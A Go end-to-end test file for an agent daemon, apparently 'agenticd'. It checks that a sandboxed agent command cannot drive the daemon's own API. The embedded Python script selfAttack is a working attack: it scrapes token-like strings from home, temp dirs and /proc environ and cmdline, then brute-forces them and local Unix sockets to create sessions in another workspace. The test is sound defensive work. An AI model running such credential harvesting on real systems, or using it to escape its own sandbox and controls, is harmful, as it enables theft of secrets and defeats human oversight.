package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	agenticv1 "github.com/agenticd/agenticd/gen/go/agentic/v1"
	"github.com/agenticd/agenticd/internal/localcred"
	"github.com/agenticd/agenticd/internal/unprivileged"
	"github.com/agenticd/agenticd/sandbox/confine"
)

// selfAttack is what a command an agent runs tries against agenticd's own API: create a
// session in another workspace over TCP without credentials, then with every token-like
// string it can read, then through every Unix socket it can find or guess (the local
// socket by its absolute and by a relative path among them). It prints what each
// attempt got, and how many sessions it created.
const selfAttack = `
import json, os, re, socket, stat, sys, urllib.request, urllib.error
port, home = sys.argv[1], sys.argv[2]
body = json.dumps({"agentId": "acp.test.attacker", "config": {"workspace": home + "/proj2"}}).encode()
path = "/agentic.v1.AgenticService/CreateSession"
created = 0
def over_tcp(token=None):
    global created
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = "Bearer " + token
    req = urllib.request.Request("http://127.0.0.1:%s%s" % (port, path), data=body, headers=headers)
    try:
        code = urllib.request.urlopen(req, timeout=10).status
    except urllib.error.HTTPError as e:
        code = e.code
    except Exception as e:
        return repr(e)
    if code == 200:
        created += 1
    return code
print("tcp_no_token=%s" % over_tcp())
# Candidates from the home and the processes first, all of them; then up to 3000 from
# the shared temp dirs, which other programs fill: there, at most 20000 files a dir,
# outside package trees, so that a machine's full /tmp cannot make the scan endless.
near, far = set(), set()
def scan(data, into):
    for m in re.findall(rb"[A-Za-z0-9_\-]{24,128}", data):
        into.add(m.decode())
for root, into, most in [(home, near, None), ("/tmp", far, 20000), ("/var/tmp", far, 20000), ("/dev/shm", far, 20000), ("/run", far, 20000)]:
    seen = 0
    for dirpath, dirs, files in os.walk(root):
        if most is not None:
            dirs[:] = [d for d in dirs if d not in ("node_modules", ".git")]
            files = files[:max(0, most - seen)]
            seen += len(files)
        for f in files:
            # Regular files only: a FIFO (other tests make them) would block the read.
            try:
                fd = os.open(os.path.join(dirpath, f), os.O_RDONLY | os.O_NONBLOCK)
            except Exception:
                continue
            try:
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    scan(os.read(fd, 1 << 20), into)
            except Exception:
                pass
            finally:
                os.close(fd)
        if most is not None and seen >= most:
            break
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, f), "rb") as fh:
                    scan(fh.read(), near)
            except Exception:
                pass
tried = sorted(near) + sorted(far - near)[:3000]
accepted = sum(1 for t in tried if over_tcp(t) == 200)
print("token_candidates=%d tokens_accepted=%d" % (len(near | far), accepted))
sockets = set()
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split(None, 7)
        if len(parts) == 8 and parts[7].startswith("/"):
            sockets.add(parts[7])
except Exception:
    pass
for dirpath, dirs, files in os.walk(home):
    for f in files + dirs:
        if f.endswith(".sock"):
            sockets.add(os.path.join(dirpath, f))
sockets.add(home + "/.local/share/agenticd/agenticd.sock")
sockets.add(os.path.relpath(home + "/.local/share/agenticd/agenticd.sock"))
request = ("POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (path, len(body))).encode() + body
socket_ok = 0
for s in sorted(sockets):
    try:
        c = socket.socket(socket.AF_UNIX)
        c.settimeout(5)
        c.connect(s)
        c.sendall(request)
        answer = c.recv(100)
        c.close()
    except Exception:
        continue
    if answer.startswith(b"HTTP/1.1 200"):
        socket_ok += 1
        created += 1
print("sockets_tried=%d sockets_accepted=%d" % (len(sockets), socket_ok))
print("created=%d" % created)
`

// A command an agent runs, confined, in a default start of agenticd (no token
// configured, as an ordinary user, its data dir under the workspace root) cannot drive
// agenticd's own API: not over TCP, not with any token-like string it can read, not
// through any socket it can find. The same attack run unconfined does get in, so the
// test sees a boundary and not a broken attack.
func TestConfinedCommandCannotDriveAgenticd(t *testing.T) {
	if missing := confine.Probe().Missing(); len(missing) > 0 {
		t.Skipf("this kernel cannot confine: %s", strings.Join(missing, "; "))
	}
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skip("the attack is a python3 script, and /usr/bin/python3 is missing")
	}
	acct := unprivileged.User(t)
	home := unprivileged.Dir(t)
	agent := unprivileged.Executable(t, buildTestAgent(t))
	proj1, proj2 := filepath.Join(home, "proj1"), filepath.Join(home, "proj2")
	script, _ := json.Marshal(map[string]any{"turns": [][]map[string]any{{{"shell": "python3 attack.py $AGENTICD_E2E_PORT " + home}}}})
	port := freePort(t)
	config := fmt.Sprintf("listen: 127.0.0.1:%d\nagents:\n  - id: acp.test.attacker\n    type: acp\n    command: %s\n    env: {TESTAGENT_SCRIPT: %s, AGENTICD_E2E_PORT: %q}\n    read_paths: [%s]\n",
		port, agent, filepath.Join(home, "scripts", "attack.json"), fmt.Sprint(port), filepath.Join(home, "scripts"))
	for path, content := range map[string]string{
		filepath.Join(proj1, "attack.py"):                           selfAttack,
		filepath.Join(proj2, "secret.txt"):                          "proj2's secret\n",
		filepath.Join(home, "scripts", "attack.json"):               string(script),
		filepath.Join(home, ".config", "agenticd", "agenticd.yaml"): config,
	} {
		writeOwned(t, home, path, content, acct)
	}

	// A default start: the config file in its default place, the data dir by default.
	client := agenticv1.NewAgenticServiceClient(startUnprivilegedAgenticd(t, home, port))
	ctx := context.Background()

	created, err := client.CreateSession(ctx, &agenticv1.CreateSessionRequest{AgentId: "acp.test.attacker",
		Config: &agenticv1.SessionConfig{Workspace: proj1}}, grpc.WaitForReady(true))
	if err != nil {
		t.Fatalf("CreateSession: %v", err)
	}
	sid := created.GetSession().GetSessionId()
	events := subscribe(t, client, subscribeAfter(created.GetSession().GetLastSequence(), sid))
	sent, err := client.SendMessage(ctx, &agenticv1.SendMessageRequest{SessionId: sid, Content: textContent("go")})
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	for _, ev := range events.Until(t, turnEnd(sent.GetMessageId())) {
		if d := ev.GetMessageDelta(); d != nil && d.GetMessageId() == sent.GetMessageId() {
			out.WriteString(d.GetText())
		}
	}
	confined := attackResults(t, "confined", out.String())
	if confined["tcp_no_token"] != "401" || confined["tokens_accepted"] != "0" || confined["sockets_accepted"] != "0" || confined["created"] != "0" {
		t.Errorf("the confined command got in: %v\n%s", confined, out.String())
	}
	if sessionsIn(t, client, proj2) != 0 {
		t.Fatalf("a session exists in %s, created by the confined command", proj2)
	}

	// The same attack, unconfined, as the same user: the token file and the socket are
	// there for it, so it gets in both ways.
	plain := unprivileged.Command(t, home, "/usr/bin/python3", "attack.py", fmt.Sprint(port), home)
	plain.Dir = proj1
	plainOut, err := plain.CombinedOutput()
	if err != nil {
		t.Fatalf("the attack unconfined: %v\n%s", err, plainOut)
	}
	unconfined := attackResults(t, "unconfined", string(plainOut))
	if unconfined["tokens_accepted"] == "0" || unconfined["sockets_accepted"] == "0" {
		t.Fatalf("unconfined, the attack did not get in, so it proves nothing confined: %v\n%s", unconfined, plainOut)
	}
	if sessionsIn(t, client, proj2) == 0 {
		t.Fatalf("unconfined, the attack reported sessions but none exists in %s", proj2)
	}
}

// startUnprivilegedAgenticd runs bin/agenticd as the ordinary user with home as its
// HOME and working directory, so that it reads its config file from there and keeps its
// data dir there, as a user's default start does; the config must listen on port. It
// returns a connection with agenticd's local token; it and agenticd end with the test.
func startUnprivilegedAgenticd(t *testing.T, home string, port int) *grpc.ClientConn {
	t.Helper()
	runUnprivilegedAgenticd(t, home, port, nil)
	token, err := localcred.ReadToken(filepath.Join(home, ".local", "share", "agenticd"))
	if err != nil {
		t.Fatalf("agenticd wrote no local token: %v", err)
	}
	conn, err := grpc.NewClient(fmt.Sprintf("127.0.0.1:%d", port), grpc.WithTransportCredentials(insecure.NewCredentials()), grpc.WithPerRPCCredentials(bearerToken(token)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	return conn
}

// runUnprivilegedAgenticd starts bin/agenticd as the ordinary user, with home as its HOME
// and working directory, env added to its environment and args as its flags, and waits
// until it listens on port; it is killed at the end of the test, its log shown if the
// test failed.
func runUnprivilegedAgenticd(t *testing.T, home string, port int, env []string, args ...string) *exec.Cmd {
	t.Helper()
	bin := unprivileged.Executable(t, buildAgenticd(t))
	cmd := unprivileged.Command(t, home, bin, args...)
	cmd.Env = append(cmd.Env, env...)
	logPath := filepath.Join(t.TempDir(), "agenticd.log")
	logFile, err := os.Create(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer logFile.Close()
	cmd.Stdout, cmd.Stderr = logFile, logFile
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		<-exited
		if t.Failed() {
			t.Logf("agenticd's log:\n%s", readFile(logPath))
		}
	})
	waitListening(t, fmt.Sprintf("127.0.0.1:%d", port), exited, logPath)
	return cmd
}

// attackResults reads selfAttack's name=value pairs.
func attackResults(t *testing.T, who, out string) map[string]string {
	t.Helper()
	results := map[string]string{}
	for _, m := range regexp.MustCompile(`(\w+)=(\S+)`).FindAllStringSubmatch(out, -1) {
		results[m[1]] = m[2]
	}
	t.Logf("%s: %v", who, results)
	if results["created"] == "" {
		t.Fatalf("%s: the attack did not finish:\n%s", who, out)
	}
	return results
}

// sessionsIn counts the sessions whose workspace is ws.
func sessionsIn(t *testing.T, client agenticv1.AgenticServiceClient, ws string) int {
	t.Helper()
	list, err := client.ListSessions(context.Background(), &agenticv1.ListSessionsRequest{})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, s := range list.GetSessions() {
		if s.GetWorkspace() == ws {
			n++
		}
	}
	return n
}

// AGENTICD_TOKEN leaves no trace in agenticd's environment block, which every process
// of its user can read in /proc/<pid>/environ, and still admits its holder.
func TestTokenFromTheEnvironmentLeavesNoTrace(t *testing.T) {
	acct := unprivileged.User(t)
	home := unprivileged.Dir(t)
	const token = "environment-token-0123456789abcdef"
	port := freePort(t)
	addr := fmt.Sprintf("127.0.0.1:%d", port)
	cmd := runUnprivilegedAgenticd(t, home, port, []string{"AGENTICD_TOKEN=" + token}, "--config", "", "--listen", addr)
	environ, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", cmd.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(environ), token) {
		t.Errorf("the token is in /proc/%d/environ of agenticd (run as %s)", cmd.Process.Pid, acct.Name)
	}
	if !strings.Contains(string(environ), "HOME=") {
		t.Fatalf("read no environment from /proc/%d/environ: %q", cmd.Process.Pid, environ)
	}
	conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()), grpc.WithPerRPCCredentials(bearerToken(token)))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := agenticv1.NewAgenticServiceClient(conn).ListAgents(context.Background(), &agenticv1.ListAgentsRequest{}, grpc.WaitForReady(true)); err != nil {
		t.Fatalf("the token from the environment is not accepted: %v", err)
	}
}

// writeOwned writes content to path, creating its directories, all owned by acct from
// below home on.
func writeOwned(t *testing.T, home, path, content string, acct unprivileged.Account) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	for p := path; p != home && strings.HasPrefix(p, home); p = filepath.Dir(p) {
		if err := os.Chown(p, acct.UID, acct.GID); err != nil {
			t.Fatal(err)
		}
	}
}

// freePort is a TCP port on 127.0.0.1 that nothing listens on just now.
func freePort(t *testing.T) int {
	t.Helper()
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer lis.Close()
	return lis.Addr().(*net.TCPAddr).Port
}

// waitListening waits until addr accepts connections, failing with the log if the
// process exits first.
func waitListening(t *testing.T, addr string, exited chan error, logPath string) {
	t.Helper()
	deadline := time.Now().Add(eventWait)
	for {
		if c, err := net.DialTimeout("tcp", addr, 100*time.Millisecond); err == nil {
			c.Close()
			return
		}
		select {
		case err := <-exited:
			exited <- err
			t.Fatalf("agenticd exited before serving (%v); its log:\n%s", err, readFile(logPath))
		case <-time.After(20 * time.Millisecond):
		}
		if time.Now().After(deadline) {
			t.Fatalf("agenticd did not listen on %s; its log:\n%s", addr, readFile(logPath))
		}
	}
}

func readFile(path string) string {
	b, _ := os.ReadFile(path)
	return string(b)
}
